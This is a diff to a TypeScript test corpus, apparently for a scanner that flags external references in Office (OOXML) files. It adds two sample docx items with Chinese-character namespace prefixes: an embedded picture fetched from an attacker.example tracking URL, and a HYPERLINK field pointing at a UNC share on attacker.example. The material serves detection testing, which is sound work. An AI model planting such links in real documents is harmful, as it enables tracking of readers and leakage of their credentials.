@@ -4381,6 +4381,31 @@ function prefixedOfficeItems(): CorpusItem[] {
       'OOXML_EXTERNAL',
     ),
     item(
+      'docx-embedded-picture-web-relationship-chinese-prefixes',
+      'OOXML external',
+      () =>
+        documentLinking(
+          `<w:p>${inlinePicture('关:embed="rId9"')
+            .replaceAll('a:blip', '图:blip')
+            .replace(
+              '<w:drawing>',
+              `<w:drawing xmlns:图="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:关="${REL}">`,
+            )}</w:p>`,
+          [rel('rId9', 'hyperlink', 'http://attacker.example/track.png', true)],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-field-share-chinese-prefix',
+      'OOXML external',
+      () =>
+        documentUnder(
+          '文',
+          `<文:r><文:fldChar 文:fldCharType="begin"/></文:r><文:r><文:instrText> HYPERLINK "\\\\\\\\attacker.example\\\\s\\\\x.docx" </文:instrText></文:r><文:r><文:fldChar 文:fldCharType="end"/></文:r>`,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
       'docx-mail-merge-chinese-prefix',
       'OOXML external',
       () =>
